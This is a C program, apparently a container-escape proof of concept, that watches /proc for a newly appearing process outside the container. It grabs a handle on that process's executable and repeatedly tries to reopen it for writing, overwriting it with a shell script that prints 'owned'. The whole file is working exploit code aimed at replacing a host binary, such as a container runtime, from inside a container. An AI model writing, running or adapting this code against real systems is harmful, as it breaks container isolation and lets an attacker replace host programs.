/* Takes hold of the program of every process that appears, unless it is the container's own, and tries to write to
   it ever after. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    int held = -1;
    char path[64], target[4096];
    puts("waiting");
    fflush(stdout);
    while (held < 0) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; all && (entry = readdir(all));) {
            int pid = atoi(entry->d_name);
            if (pid < 2) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            if (length <= 0) continue;
            target[length] = 0;
            if (strstr(target, "busybox")) continue;
            held = open(path, O_PATH);
            if (held >= 0) break;
        }
        if (all) closedir(all);
        while (waitpid(-1, 0, WNOHANG) > 0);
    }
    printf("took %s\n", target);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 2000; tries++) {
        int writable = open(path, O_WRONLY | O_TRUNC);
        if (writable >= 0) {
            int wrote = write(writable, "#!/bin/sh\necho owned\n", 21) == 21;
            printf("%s\n", wrote ? "wrote" : "opened");
            break;
        }
        if (tries == 1999) printf("never: %s\n", strerror(errno));
        usleep(1000);
    }
    fflush(stdout);
    for (;;) pause();
}
